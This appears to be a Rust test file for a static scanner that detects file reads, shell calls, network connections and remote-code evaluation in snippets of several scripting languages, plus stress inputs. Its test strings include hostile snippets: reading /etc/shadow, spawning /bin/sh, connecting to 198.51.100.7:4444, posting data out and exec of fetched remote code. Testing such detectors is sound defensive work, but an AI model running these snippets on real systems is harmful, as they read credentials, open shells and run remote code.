//! Calls in each language, and code that is written to hold the pass up.

use super::{Call, Scan};

fn calls(language: &str, text: &str) -> Vec<Call> {
    Scan::of(language, text).calls
}

#[test]
fn calls_are_found_in_every_language() {
    assert_eq!(calls("python", "print(open('/etc/shadow').read())"), [Call::Read("/etc/shadow".into())]);
    assert_eq!(calls("python", "open('a.txt','w').write('hi')"), [Call::Write("a.txt".into(), Some("hi".into()))]);
    assert_eq!(
        calls("python", "from pathlib import Path; Path('x').write_text('y')"),
        [Call::Write("x".into(), Some("y".into()))]
    );
    assert_eq!(calls("python", "import os; os.system('id')"), [Call::Shell("id".into())]);
    assert_eq!(calls("python", "subprocess.run(['ls','-l'])"), [Call::Program(vec!["ls".into(), "-l".into()])]);
    assert_eq!(calls("node", "require('child_process').execSync('ls')"), [Call::Shell("ls".into())]);
    assert_eq!(calls("node", "/a(b)/.exec('x')"), []);
    assert_eq!(calls("node", "fs.readFileSync('p.json','utf8')"), [Call::Read("p.json".into())]);
    assert_eq!(calls("perl", "exec \"/bin/sh\";"), [Call::Shell("/bin/sh".into())]);
    assert_eq!(calls("ruby", "puts `id`"), [Call::Shell("id".into())]);
    assert_eq!(calls("awk", "BEGIN {system(\"/bin/sh\")}"), [Call::Shell("/bin/sh".into())]);
    assert_eq!(
        calls("python", "s.connect(('198.51.100.7',4444))"),
        [Call::Connect("198.51.100.7".into(), "4444".into())]
    );
    assert_eq!(
        calls("python", "requests.post('https://x.example/', data=d)"),
        [Call::Send("https://x.example/".into())]
    );
    assert!(Scan::of("python", "exec(urlopen('http://x/').read())").evaluates);
    assert!(!Scan::of("python", "print(eval('1+1'))").evaluates);
}

#[test]
fn hostile_code_ends_soon() {
    for text in [
        "(".repeat(100_000),
        "open(".repeat(50_000),
        "'".repeat(99_999),
        "\\".repeat(100_000),
        "a.".repeat(60_000),
        "exec ".repeat(30_000),
    ] {
        for language in ["python", "node", "perl", "ruby", "awk", "php"] {
            assert!(Scan::of(language, &text).calls.len() <= super::CALLS);
        }
    }
}
